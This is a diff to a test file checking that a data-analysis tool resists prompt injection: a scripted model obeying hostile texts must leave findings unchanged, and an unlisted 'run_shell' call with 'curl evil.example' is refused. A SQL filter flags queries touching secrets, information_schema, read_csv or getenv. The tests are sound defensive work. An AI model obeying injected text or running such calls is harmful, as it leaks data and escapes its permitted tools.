@@ -5,6 +5,7 @@ import { cleanText } from '../core/model/cleanText.ts'
 import type { Finding } from '../core/finding/finding.ts'
 import { hostileTexts } from '../testing/hostileTexts.ts'
 import { createModelShop, forgetful, userNulls, type ModelShop } from '../testing/modelShop.ts'
+import { rounded } from '../testing/rounded.ts'
 import type { Script } from '../testing/scriptedModel.ts'
 import { prediction, toldIn, toolOf } from '../testing/scripts.ts'
 
@@ -61,7 +62,7 @@ test('a model that obeys everything it reads changes nothing', async () => {
   const asked = await shop.ask({ script: obeying(seen), metric: userNulls, sharing: 'open' })
   // The texts did reach it, or this would prove nothing.
   expect(seen.size).toBeGreaterThanOrEqual(40)
-  expect(ours(asked.finding)).toEqual(ours(without.finding))
+  expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
   expect(asked.finding?.prose ?? []).toEqual([])
   expect(await digest()).toBe(before)
   expect(asked.queries.filter(({ id }) => id.startsWith('model:')).map(({ sql }) => sql).filter(sql => !/^SELECT /.test(sql) || /secret|information_schema|read_csv|getenv/.test(sql))).toEqual([])
@@ -87,7 +88,7 @@ test('no text reaches the instructions, leaves its line, or hides in it', async 
 test('a model that calls tools that are not on the list gets none of them', async () => {
   const without = await shop.ask({ script: null, metric: userNulls })
   const asked = await shop.ask({ script: () => ({ kind: 'call', name: 'run_shell', input: { command: 'curl evil.example' } }), metric: userNulls, sharing: 'open' })
-  expect(ours(asked.finding)).toEqual(ours(without.finding))
+  expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
   expect(asked.received).toHaveLength(2)
   expect(asked.finding?.notes?.map(({ text }) => text)).toEqual(["The report stands without the model: The model's answer could not be used."])
 })
